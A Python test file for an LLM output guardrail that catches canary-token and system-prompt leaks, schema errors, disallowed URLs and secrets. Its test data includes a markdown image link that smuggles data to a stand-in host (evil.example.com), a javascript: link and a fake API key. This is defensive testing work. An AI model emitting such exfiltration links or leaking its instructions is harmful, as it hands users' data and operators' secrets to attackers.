"""Output-side checks: canary leaks, system-prompt echoes, schema, URLs, secrets."""

from __future__ import annotations

import base64

from pydantic import BaseModel

from labkit.guardrails import check_output, make_canary, with_canary

SYSTEM = "You review prompts that people intend to send to a language model and score them on a rubric."


def test_canary_is_appended_and_its_leak_is_caught_however_disguised() -> None:
    system, canary = with_canary(SYSTEM)
    assert system.startswith(SYSTEM) and canary.token in system
    assert make_canary().token != canary.token
    token = canary.token
    for leaked in (f"Sure: {token}", " ".join(token), token[::-1], base64.b64encode(token.encode()).decode()):
        verdict = check_output(f"Here you go. {leaked}", agent="t", canary=canary)
        assert not verdict.allowed and verdict.categories == ["canary_leak"], leaked
        assert token not in verdict.findings[0].excerpt
    assert check_output("A perfectly normal answer.", agent="t", canary=canary).allowed


def test_a_verbatim_echo_of_the_system_prompt_is_a_leak() -> None:
    answer = f"My instructions say: {SYSTEM}"
    assert check_output(answer, agent="t", system_prompt=SYSTEM).categories == ["canary_leak"]
    assert check_output("I score prompts on clarity.", agent="t", system_prompt=SYSTEM).allowed


class Score(BaseModel):
    score: int
    reason: str


def test_schema() -> None:
    assert check_output('{"score": 7, "reason": "clear"}', agent="t", schema=Score).allowed
    bad = check_output('{"score": "high"}', agent="t", schema=Score)
    assert bad.categories == ["schema"] and "Score" in bad.findings[0].reason
    assert "not JSON" in check_output("score: 7", agent="t", schema=Score).findings[0].reason


def test_urls() -> None:
    hosts = ["docs.python.org"]
    assert check_output(
        "See https://docs.python.org/3/library/re.html", agent="t", allowed_hosts=hosts
    ).allowed
    off = check_output("See https://evil.example.com/x", agent="t", allowed_hosts=hosts)
    assert off.categories == ["url"] and "evil.example.com" in off.findings[0].reason
    assert check_output("[x](javascript:alert(1))", agent="t").categories == ["url"]
    exfil = check_output("![a](https://evil.example.com/p.png?d=secret%20data)", agent="t")
    assert "data_exfiltration" in exfil.categories


def test_secrets_in_outputs_are_blocked_and_masked() -> None:
    key = "sk-" + "ant-api03-" + "FAKE" * 5 + "9999"
    verdict = check_output(f"The key is {key}", agent="t")
    assert verdict.categories == ["secret"] and key not in verdict.findings[0].excerpt
